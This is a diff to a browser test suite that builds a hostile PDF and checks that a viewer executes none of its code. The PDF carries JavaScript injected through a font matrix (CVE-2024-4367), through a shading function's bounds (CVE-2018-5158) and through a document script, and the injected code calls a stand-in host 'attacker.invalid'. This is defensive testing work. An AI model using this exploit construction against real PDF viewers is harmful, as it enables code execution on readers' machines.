@@ -3,10 +3,11 @@
 from __future__ import annotations
 
 import io
-from pathlib import Path
 
 import pikepdf
 import pytest
+from fontTools.fontBuilder import FontBuilder
+from fontTools.pens.ttGlyphPen import TTGlyphPen
 from pikepdf import Array, Dictionary, Name, String
 from playwright.sync_api import expect
 
@@ -14,26 +15,50 @@ from tests.browser import documents
 from tests.browser.conftest import Person
 from tests.stack import Integrator
 
-_FONTS = Path("/usr/share/fonts/truetype")
 # Closes what would be compiled around it, and leaves a mark wherever it runs.
 _CODE = "globalThis.taken = true; fetch('https://attacker.invalid/'); //"
-MATRIX = f"1); {_CODE}"  # CVE-2024-4367: c.transform(1,0,0,1,0,HERE)
+# CVE-2024-4367: c.transform(1,0,0,1,0,HERE). pdf.js 4.1.392 runs it, in this very document.
+MATRIX = f"1); {_CODE}"
+_NO_SIZE = "OTS parsing error: head: unitsPerEm"  # what Chromium says of that font
 RANGE = f"0; {_CODE}"  # CVE-2018-5158: Math.min(Math.max(v, HERE), 1)
 
 
+def _outlines() -> bytes:
+    """A TrueType font of one glyph, A, that names no size: then the matrix is the dictionary's."""
+    pen = TTGlyphPen(None)
+    for draw, point in zip(
+        (pen.moveTo, pen.lineTo, pen.lineTo), ((0, 0), (500, 0), (250, 700)), strict=True
+    ):
+        draw(point)
+    pen.closePath()
+    triangle = pen.glyph()
+    glyphs = {".notdef": triangle, "A": triangle}
+    builder = FontBuilder(1000)
+    builder.setupGlyphOrder(list(glyphs))
+    builder.setupCharacterMap({65: "A"})
+    builder.setupGlyf(glyphs)
+    builder.setupHorizontalMetrics(dict.fromkeys(glyphs, (600, 0)))
+    builder.setupHorizontalHeader(ascent=800, descent=-200)
+    builder.setupOS2()
+    builder.setupPost()
+    builder.font["head"].unitsPerEm = 0
+    stream = io.BytesIO()
+    builder.save(stream)
+    return stream.getvalue()
+
+
 def hostile_pdf() -> bytes:
-    """Text in a font whose matrix is code, stroked so that its outlines are compiled; a shading
+    """Text in a font whose matrix is code, clipped by so that its outlines are compiled; a shading
     by a PostScript function with code among its bounds; and scripts of the document's own."""
     with pikepdf.new() as document:
-        program = document.make_stream(next(_FONTS.rglob("Carlito-Regular.ttf")).read_bytes())
+        program = document.make_stream(_outlines())
         font = Dictionary(
-            Type=Name.Font, Subtype=Name.TrueType, BaseFont=Name("/AAAAAA+Carlito"),
-            FirstChar=32, LastChar=126, Widths=Array([500] * 95),
-            Encoding=Name.WinAnsiEncoding,
+            Type=Name.Font, Subtype=Name.TrueType, BaseFont=Name.Hostile,
+            FirstChar=65, LastChar=65, Widths=Array([600]), Encoding=Name.WinAnsiEncoding,
             FontMatrix=Array([1, 0, 0, 1, 0, String(MATRIX)]),
             FontDescriptor=document.make_indirect(
                 Dictionary(
-                    Type=Name.FontDescriptor, FontName=Name("/AAAAAA+Carlito"), Flags=32,
+                    Type=Name.FontDescriptor, FontName=Name.Hostile, Flags=32,
                     FontBBox=[0, 0, 1000, 1000], ItalicAngle=0, Ascent=900, Descent=-100,
                     CapHeight=700, StemV=80, FontFile2=program,
                 )
@@ -58,7 +83,7 @@ def hostile_pdf() -> bytes:
             ),
         )  # fmt: skip
         page.Contents = document.make_stream(
-            b"q 0 0 600 200 re W n /S sh Q BT 1 Tr /F0 40 Tf 50 500 Td (Outlined) Tj ET "
+            b"q 0 0 600 200 re W n /S sh Q q BT 6 Tr /F0 40 Tf 50 500 Td (AAA) Tj ET Q "
             b"BT 2 Tr /F1 40 Tf 50 600 Td (Harbour) Tj ET"
         )
         script = document.make_indirect(Dictionary(S=Name.JavaScript, JS=String(_CODE)))
@@ -85,7 +110,9 @@ def identity(integrator: Integrator) -> str:
 
 def test_a_hostile_pdf_runs_nothing(person: Person, identity: str) -> None:
     """Nor does it ask anything of another host: `person` sees to that at the end."""
-    viewer = person().read(identity, prefix="")
+    viewer = person()
+    viewer.watch.expect(_NO_SIZE)
+    viewer.read(identity, prefix="")
     expect(viewer.sheet(0).locator(".text")).to_contain_text("Harbour")
     viewer.expect_crisp(0)
     viewer.page.wait_for_load_state("networkidle")
@@ -106,8 +133,9 @@ _COMPILE = """() => new Promise((tell) => {
 
 def test_the_page_and_the_worker_refuse_to_compile_words(person: Person, identity: str) -> None:
     """Even a pdf.js that wanted to could not: their policies know no `unsafe-eval`."""
-    viewer = person().read(identity, prefix="")
-    viewer.watch.expect("unsafe-eval|policy violated: script-src eval")
+    viewer = person()
+    viewer.watch.expect(f"{_NO_SIZE}|unsafe-eval|policy violated: script-src eval")
+    viewer.read(identity, prefix="")
     assert viewer.page.evaluate(_COMPILE) == "refused"
     assert {worker.evaluate(_COMPILE) for worker in viewer.page.workers} == {"refused"}
     elsewhere = viewer.page.context.new_page()
